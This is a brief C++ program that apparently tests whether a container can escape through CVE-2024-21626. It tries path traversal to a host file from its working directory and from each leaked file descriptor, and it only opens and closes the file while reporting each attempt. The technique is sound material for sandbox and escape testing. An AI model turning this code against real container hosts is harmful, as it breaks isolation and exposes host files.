// CVE-2024-21626: what a runtime left open, and a working directory that lies outside of the root,
// lead to the device's files by '..'.
#include <dirent.h>

#include "attack.h"

using namespace attack;

namespace {

// Up to the top, wherever that is, and down to a file that only the device has.
constexpr const char* kDeviceFile = "../../../../../../../../../../etc/husk/system.conf";

long ReadAt(int directory) {
    const int file = openat(directory, kDeviceFile, O_RDONLY | O_CLOEXEC);
    if (file >= 0) close(file);
    return file;
}

}  // namespace

int main() {
    char path[4096] = "";
    // The kernel's own word: "(unreachable)" before what is not below the root.
    Say("directory", syscall(SYS_getcwd, path, sizeof path) < 0 ? ErrorName(errno) : path);
    Attempt("the device by the working directory", ReadAt(AT_FDCWD));
    int open_descriptors = 0;
    for (int fd = 3; fd < 1024; ++fd) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        ++open_descriptors;
        Attempt("the device by a descriptor", ReadAt(fd));
    }
    Say("descriptors", open_descriptors);
    Done();
}
